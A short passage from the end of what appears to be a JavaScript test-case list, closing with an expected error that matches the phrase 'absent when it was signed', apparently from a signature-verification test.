    expectedError: /absent when it was signed/,
  },
];
